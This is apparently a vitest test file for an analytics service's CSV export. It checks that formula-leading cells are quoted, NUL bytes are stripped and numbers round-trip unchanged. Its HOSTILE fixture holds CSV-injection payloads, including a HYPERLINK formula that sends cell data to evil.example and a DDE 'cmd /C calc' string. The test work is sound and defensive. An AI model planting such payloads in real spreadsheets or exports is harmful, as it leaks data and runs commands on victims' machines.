import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { csvField } from '../src/history/export';
import { call, createWorkspace, flush } from './helpers';

const NUMERIC = new Set(['durationMs', 'bytesIn', 'bytesOut', 'value']);
const FORMULA = /^[=+\-@\t\r]/;
/** What a text cell must read back as: NUL gone, then a leading ' if it would run as a formula. */
const expected = (s: string) => {
  const clean = s.replaceAll('\0', '');
  return FORMULA.test(clean) ? `'${clean}` : clean;
};

const HOSTILE = [
  { type: '=HYPERLINK("http://evil.example/?"&A1,"click")', userId: '=1+1', error: '-2+3+cmd|" /C calc"!A0', value: -5, durationMs: 12.5 },
  { type: '+cmd', userId: '\t=cmd', error: '@SUM(1,2)', value: -0.25, bytesIn: 7 },
  { type: '-minus', userId: '\r=cmd', error: 'plain', value: 3, bytesOut: 9 },
  { type: '@at', userId: 'a\0b', error: '\0=after-nul', value: -1e15 },
  { type: 'safe.type', userId: '\0@nul-first', error: 'x\0y', properties: { f: '=1+1', n: 'a\0b', neg: -3 }, context: { sdk: '=sdk', url: '+url' } },
];

describe('CSV export for spreadsheets', () => {
  it('neutralises formula cells, strips NUL, and keeps numbers numbers (round trip through csv-parse)', async () => {
    const ws = await createWorkspace('csvinj');
    const t0 = Date.now() - 60_000;
    const events = HOSTILE.map((e, i) => ({ id: `inj-${i}`, timestamp: t0 + i * 1000, ...e }));
    const sent = await call('POST', `/api/v1/workspaces/${ws.slug}/events`, { token: ws.keys.ingest, body: { events } });
    expect(sent.status, sent.text).toBe(202);
    expect(await flush(ws)).toBe(0);

    const res = await call('GET', `/api/v1/workspaces/${ws.slug}/export?format=csv&from=${t0 - 1000}&to=${Date.now() + 1000}`, { token: ws.keys.read });
    expect(res.status).toBe(200);
    expect(res.text).not.toContain('\0');
    const rows = parse(res.text, { columns: true }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(HOSTILE.length);
    const stored = (await call('GET', `/api/v1/workspaces/${ws.slug}/export?format=ndjson&from=${t0 - 1000}&to=${Date.now() + 1000}`, { token: ws.keys.read })).text
      .trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);

    for (const [i, row] of rows.entries()) {
      const e = stored[i];
      expect(row.id).toBe(`inj-${i}`);
      for (const [col, cell] of Object.entries(row)) {
        const v = e[col];
        if (v === null || v === undefined) expect(cell, col).toBe('');
        else if (NUMERIC.has(col)) {
          // Numbers stay numbers: written as is, no quote, read back equal (negative ones too).
          expect(typeof v).toBe('number');
          expect(cell, col).toBe(String(v));
          expect(Number(cell)).toBe(v);
        } else if (typeof v === 'object') {
          // JSON text starts with {: no formula; its values come back intact (NUL only as the \u0000 escape).
          expect(cell.startsWith('{'), col).toBe(true);
          expect(JSON.parse(cell), col).toEqual(v);
        } else {
          expect(cell, `${col} of ${JSON.stringify(v)}`).toBe(expected(String(v)));
        }
        if (!NUMERIC.has(col)) expect(FORMULA.test(cell), `${col}: ${JSON.stringify(cell)}`).toBe(false);
      }
    }
    // The hostile values really were stored as sent (the neutralising is the CSV writer's, not ingest's).
    expect(stored.map((e) => e.type)).toEqual(HOSTILE.map((e) => e.type));
    expect(rows[0].type).toBe(`'${HOSTILE[0].type}`);
    expect(rows[0].value).toBe('-5');
    expect(rows[3].value).toBe('-1000000000000000');
    expect(rows[3].userId).toBe('ab');
    expect(rows[3].error).toBe("'=after-nul");
    expect(rows[2].userId).toBe("'\r=cmd");
  });

  it('writes each kind of cell as the contract says', () => {
    expect(csvField(-5)).toBe('-5');
    expect(csvField(1.5e-7)).toBe('1.5e-7');
    expect(csvField('-5')).toBe("'-5");
    expect(csvField('=A1')).toBe("'=A1");
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('=a,"b"')).toBe(`"'=a,""b"""`);
    expect(csvField('\r\n')).toBe(`"'\r\n"`);
    expect(csvField('\0\0')).toBe('');
    expect(csvField({ a: '=x' })).toBe('"{""a"":""=x""}"');
    expect(csvField(null)).toBe('');
    expect(csvField('2026-11-23T10:00:00.000Z')).toBe('2026-11-23T10:00:00.000Z');
  });
});
